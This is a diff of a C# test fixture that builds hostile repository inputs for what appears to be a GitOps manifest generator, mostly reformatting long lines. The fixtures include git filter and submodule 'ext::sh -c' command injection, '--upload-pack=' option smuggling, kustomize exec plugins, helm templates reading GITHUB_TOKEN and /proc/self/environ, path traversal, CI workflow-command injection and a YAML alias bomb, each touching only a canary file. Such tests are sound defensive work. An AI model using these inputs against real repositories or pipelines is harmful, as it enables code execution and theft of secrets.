@@ -15,7 +15,11 @@ public static class StrangersFiles
     {
         ["a journal that makes a hook"] = box => Journal(box, ".git/hooks/post-commit"),
         ["a journal that writes outside"] = box => Journal(box, "../outside/new.txt"),
-        ["a journal that deletes"] = box => box.Write(".gitopsgen/journal.json", $$"""[{"path":"apps/web/app.yaml","old":"{{Digest(box.Read("apps/web/app.yaml"))}}","new":null,"staged":null}]"""),
+        ["a journal that deletes"] = box =>
+            box.Write(
+                ".gitopsgen/journal.json",
+                $$"""[{"path":"apps/web/app.yaml","old":"{{Digest(box.Read("apps/web/app.yaml"))}}","new":null,"staged":null}]"""
+            ),
         ["a cache of forged builds"] = ForgedBuilds,
         ["the state folder as a link"] = box => box.Link(".gitopsgen", box.Outside),
         ["the stage as a link"] = box => box.Link(".gitopsgen/stage", box.Outside),
@@ -36,40 +40,84 @@ public static class StrangersFiles
             box.Write(Base, "resources: [deployment.yaml, 'git2@127.0.0.1:x/y.git']\n");
         },
         ["a base over HTTP"] = box => box.Write(Base, $"resources: [deployment.yaml, 'http://{box.Address}/x.yaml']\n"),
-        ["a base by git over HTTP"] = box => box.Write(Base, $"resources: [deployment.yaml, 'git::http://{box.Address}/x.git//y?ref=main']\n"),
+        ["a base by git over HTTP"] = box =>
+            box.Write(Base, $"resources: [deployment.yaml, 'git::http://{box.Address}/x.git//y?ref=main']\n"),
         ["a component from GitHub"] = box => box.Write(Base, "resources: [deployment.yaml]\ncomponents: [GitHub.com/contoso/parts//web]\n"),
-        ["a patch over HTTP"] = box => box.Write(Base, $"resources: [deployment.yaml]\npatches: [{{path: 'http://{box.Address}/p.yaml'}}]\n"),
-        ["a schema over HTTP"] = box => box.Write(Base, $"resources: [deployment.yaml]\nopenapi: {{path: 'http://{box.Address}/schema.json'}}\n"),
+        ["a patch over HTTP"] = box =>
+            box.Write(Base, $"resources: [deployment.yaml]\npatches: [{{path: 'http://{box.Address}/p.yaml'}}]\n"),
+        ["a schema over HTTP"] = box =>
+            box.Write(Base, $"resources: [deployment.yaml]\nopenapi: {{path: 'http://{box.Address}/schema.json'}}\n"),
         ["an exec transformer"] = box =>
         {
             box.Write("apps/web/base/evil", $"#!/bin/sh\necho ran >'{box.Canary}'\n", isProgram: true);
-            box.Write("apps/web/base/plugin.yaml", "apiVersion: v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n      exec: {path: ./evil}\n");
+            box.Write(
+                "apps/web/base/plugin.yaml",
+                "apiVersion: v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n   "
+                    + "   exec: {path: ./evil}\n"
+            );
             box.Write(Base, "resources: [deployment.yaml]\ntransformers: [plugin.yaml]\n");
         },
         ["a container as a generator"] = box =>
         {
-            box.Write("apps/web/base/plugin.yaml", "apiVersion: v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n      container: {image: evil, network: true}\n");
+            box.Write(
+                "apps/web/base/plugin.yaml",
+                "apiVersion: v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n   "
+                    + "   container: {image: evil, network: true}\n"
+            );
             box.Write(Base, "resources: [deployment.yaml]\ngenerators: [plugin.yaml]\n");
         },
-        ["a chart inflated by kustomize"] = box => box.Write(Base, $"resources: [deployment.yaml]\nhelmCharts: [{{name: x, repo: 'http://{box.Address}', version: 1.0.0}}]\n"),
-        ["the environment as a file of a ConfigMap"] = box => box.Write(Base, "resources: [deployment.yaml]\nconfigMapGenerator: [{name: x, files: [/proc/self/environ]}]\n"),
-        ["a file far above as a patch"] = box => box.Write(Base, "resources: [deployment.yaml]\npatches: [{path: ../../../../outside/neighbour.txt}]\n"),
-        ["the environment as values"] = box => box.Write("apps/chart/app.yaml", box.Read("apps/chart/app.yaml") + "  values: [/proc/self/environ]\n"),
+        ["a chart inflated by kustomize"] = box =>
+            box.Write(Base, $"resources: [deployment.yaml]\nhelmCharts: [{{name: x, repo: 'http://{box.Address}', version: 1.0.0}}]\n"),
+        ["the environment as a file of a ConfigMap"] = box =>
+            box.Write(Base, "resources: [deployment.yaml]\nconfigMapGenerator: [{name: x, files: [/proc/self/environ]}]\n"),
+        ["a file far above as a patch"] = box =>
+            box.Write(Base, "resources: [deployment.yaml]\npatches: [{path: ../../../../outside/neighbour.txt}]\n"),
+        ["the environment as values"] = box =>
+            box.Write("apps/chart/app.yaml", box.Read("apps/chart/app.yaml") + "  values: [/proc/self/environ]\n"),
         ["a base file as a link"] = box => box.Link("apps/web/base/deployment.yaml", "/proc/self/environ"),
         ["an environment as a link"] = box => box.Link("environments/dev/web", box.Outside),
         ["the manifests as a link"] = box => box.Link(Manifests, box.Canary),
-        ["a chart's schema elsewhere"] = box => box.Write("apps/chart/demo/values.schema.json", $$"""{"$ref": "http://{{box.Address}}/schema.json"}"""),
+        ["a chart's schema elsewhere"] = box =>
+            box.Write("apps/chart/demo/values.schema.json", $$"""{"$ref": "http://{{box.Address}}/schema.json"}"""),
         ["a chart's template as a link"] = box => box.Link("apps/chart/demo/templates/leak.yaml", "/proc/self/environ"),
-        ["a chart that asks the network"] = box => box.Write("apps/chart/demo/templates/leak.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: leak}\ndata: {a: {{ getHostByName \"attack.invalid\" | quote }}, b: {{ env \"GITHUB_TOKEN\" | quote }}}\n"),
-        ["a chart that needs another"] = box => box.Write("apps/chart/demo/Chart.yaml", box.Read("apps/chart/demo/Chart.yaml") + $"dependencies: [{{name: x, version: 1.0.0, repository: 'http://{box.Address}'}}]\n"),
+        ["a chart that asks the network"] = box =>
+            box.Write(
+                "apps/chart/demo/templates/leak.yaml",
+                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: leak}\ndata: {a: {{ getHostByName \"attack.invalid\" | "
+                    + "quote }}, b: {{ env \"GITHUB_TOKEN\" | quote }}}\n"
+            ),
+        ["a chart that needs another"] = box =>
+            box.Write(
+                "apps/chart/demo/Chart.yaml",
+                box.Read("apps/chart/demo/Chart.yaml")
+                    + $"dependencies: [{{name: x, version: 1.0.0, repository: 'http://{box.Address}'}}]\n"
+            ),
         ["filters of git"] = box =>
         {
             box.Write(".gitattributes", "* filter=evil diff=evil merge=evil\n*.yaml text eol=crlf ident export-subst\n");
-            box.Write(".gitconfig", $"[filter \"evil\"]\n  smudge = touch {box.Canary}\n  clean = touch {box.Canary}\n[diff \"evil\"]\n  textconv = touch {box.Canary}\n");
+            box.Write(
+                ".gitconfig",
+                $"[filter \"evil\"]\n  smudge = touch {box.Canary}\n  clean = touch {box.Canary}\n[diff \"evil\"]\n  textconv = "
+                    + $"touch {box.Canary}\n"
+            );
         },
-        ["a submodule that runs"] = box => box.Write(".gitmodules", $"[submodule \"x\"]\n  path = x\n  url = ext::sh -c touch% {box.Canary}\n  update = !touch {box.Canary}\n"),
-        ["a remote that runs"] = box => Fleet(box, "", fleet => fleet.Replace("https://git.example/small.git", $"'ext::sh -c touch% {box.Canary}'", StringComparison.Ordinal)),
-        ["a branch that is an option"] = box => Fleet(box, "", fleet => fleet.Replace("small.git}", $"small.git, branch: '--upload-pack=touch {box.Canary}'}}", StringComparison.Ordinal)),
+        ["a submodule that runs"] = box =>
+            box.Write(
+                ".gitmodules",
+                $"[submodule \"x\"]\n  path = x\n  url = ext::sh -c touch% {box.Canary}\n  update = !touch {box.Canary}\n"
+            ),
+        ["a remote that runs"] = box =>
+            Fleet(
+                box,
+                "",
+                fleet => fleet.Replace("https://git.example/small.git", $"'ext::sh -c touch% {box.Canary}'", StringComparison.Ordinal)
+            ),
+        ["a branch that is an option"] = box =>
+            Fleet(
+                box,
+                "",
+                fleet => fleet.Replace("small.git}", $"small.git, branch: '--upload-pack=touch {box.Canary}'}}", StringComparison.Ordinal)
+            ),
         ["a record that owns a workflow"] = box =>
         {
             box.Write(".github/workflows/x.yaml", "on: push\n");
@@ -77,18 +125,30 @@ public static class StrangersFiles
         },
         ["a record that owns git's settings"] = box => Record(box, ".git/config"),
         ["a record that owns a neighbour"] = box => Record(box, "../outside/neighbour.txt"),
-        ["a pin that climbs"] = box => box.Write("environments/prod/releases/web.yaml", "apiVersion: gitopsgen.io/v1alpha1\nkind: Pin\nspec: {release: ../../../../outside}\n"),
+        ["a pin that climbs"] = box =>
+            box.Write(
+                "environments/prod/releases/web.yaml",
+                "apiVersion: gitopsgen.io/v1alpha1\nkind: Pin\nspec: {release: ../../../../outside}\n"
+            ),
         ["a component that is an option"] = box =>
         {
             box.Write("apps/web/--enable-exec/kustomization.yaml", "kind: Component\n");
-            box.Write("apps/web/app.yaml", SmallFleet.App("web", "requires: [config]", "kustomize: {base: base, components: [{path: --enable-exec}]}"));
+            box.Write(
+                "apps/web/app.yaml",
+                SmallFleet.App("web", "requires: [config]", "kustomize: {base: base, components: [{path: --enable-exec}]}")
+            );
         },
         ["a template that reads files"] = box => Template(box, "{{ include '/proc/self/environ' }}"),
         ["a template that asks the environment"] = box => Template(box, "{{ env.GITHUB_TOKEN }}{{ GITHUB_TOKEN }}"),
         ["a bomb of aliases"] = box => box.Write("apps/web/base/deployment.yaml", Bomb()),
-        ["a name that speaks to the workflow"] = box => box.Write("apps/web/base/kustomization.yaml", "resources: [deployment.yaml, \"\\n::error::forged\\r\\e]0;owned\\a.yaml\"]\n"),
+        ["a name that speaks to the workflow"] = box =>
+            box.Write("apps/web/base/kustomization.yaml", "resources: [deployment.yaml, \"\\n::error::forged\\r\\e]0;owned\\a.yaml\"]\n"),
         ["a key that speaks to the workflow"] = box => box.Write(Dev, box.Read(Dev) + "  \"x\\n::stop-commands::forged\": 1\n"),
-        ["settings of the build"] = box => box.Write("Directory.Build.props", $"<Project><Target Name=\"x\" BeforeTargets=\"Build\"><Exec Command=\"touch {box.Canary}\" /></Target></Project>\n"),
+        ["settings of the build"] = box =>
+            box.Write(
+                "Directory.Build.props",
+                $"<Project><Target Name=\"x\" BeforeTargets=\"Build\"><Exec Command=\"touch {box.Canary}\" /></Target></Project>\n"
+            ),
     };
 
     public static IEnumerable<string> Names => All.Keys;
@@ -109,7 +169,10 @@ public static class StrangersFiles
     {
         var payload = $"#!/bin/sh\necho ran >'{box.Canary}'\n";
         box.Write(".gitopsgen/stage/f1", payload);
-        box.Write(".gitopsgen/journal.json", $$"""[{"path":"{{path}}","old":null,"new":"{{Digest(payload)}}","staged":"{{box.Checkout}}/.gitopsgen/stage/f1"}]""");
+        box.Write(
+            ".gitopsgen/journal.json",
+            $$"""[{"path":"{{path}}","old":null,"new":"{{Digest(payload)}}","staged":"{{box.Checkout}}/.gitopsgen/stage/f1"}]"""
+        );
     }
 
     // What is committed as rendered is not what the base renders to; a cache says that it is.
@@ -117,7 +180,10 @@ public static class StrangersFiles
     {
         var forged = box.Read(Manifests).Replace("web:1", "evil:1", StringComparison.Ordinal);
         box.Write(Manifests, forged);
-        box.Write("environments/dev/web/owned.json", box.Read("environments/dev/web/owned.json").Replace(Digest(box.Read(Manifests)), Digest(forged), StringComparison.Ordinal));
+        box.Write(
+            "environments/dev/web/owned.json",
+            box.Read("environments/dev/web/owned.json").Replace(Digest(box.Read(Manifests)), Digest(forged), StringComparison.Ordinal)
+        );
         box.Write(".gitopsgen/cache/builds", $"gitopsgen-builds 1\n{new string('0', 64)}\t{Digest(forged)}\n");
     }
 
@@ -137,21 +203,30 @@ public static class StrangersFiles
     private static void Fleet(Sandbox box, string line, Func<string, string>? edit = null) =>
         box.Write("gitopsgen.yaml", (edit?.Invoke(box.Read("gitopsgen.yaml")) ?? box.Read("gitopsgen.yaml")) + line + "\n");
 
-    private static void Record(Sandbox box, string path) => box.Write(
-        "environments/dev/gone/owned.json",
-        box.Read("environments/dev/web/owned.json").Replace("environments/dev/web/kustomization.yaml", path, StringComparison.Ordinal));
+    private static void Record(Sandbox box, string path) =>
+        box.Write(
+            "environments/dev/gone/owned.json",
+            box.Read("environments/dev/web/owned.json").Replace("environments/dev/web/kustomization.yaml", path, StringComparison.Ordinal)
+        );
 
     private static void Template(Sandbox box, string text)
     {
-        box.Write("apps/web/part.yaml", $"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: leak, namespace: demo}}\ndata: {{a: \"{text}\"}}\n");
-        box.Write("apps/web/app.yaml", SmallFleet.App("web", "requires: [config]", "kustomize: {base: base, templates: [{file: part.yaml, as: resource}]}"));
+        box.Write(
+            "apps/web/part.yaml",
+            $"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: leak, namespace: demo}}\ndata: {{a: \"{text}\"}}\n"
+        );
+        box.Write(
+            "apps/web/app.yaml",
+            SmallFleet.App("web", "requires: [config]", "kustomize: {base: base, templates: [{file: part.yaml, as: resource}]}")
+        );
     }
 
     // Just above what is read: an engine that gets it all the same does not fell the machine.
     private static string Bomb()
     {
         var bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
-        for (var level = 1; level < 7; level++) bomb.Append($"a{level}: &a{level} [{string.Join(", ", Enumerable.Repeat($"*a{level - 1}", 9))}]\n");
+        for (var level = 1; level < 7; level++)
+            bomb.Append($"a{level}: &a{level} [{string.Join(", ", Enumerable.Repeat($"*a{level - 1}", 9))}]\n");
         return $"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: bomb, namespace: demo}}\n{bomb}";
     }
 
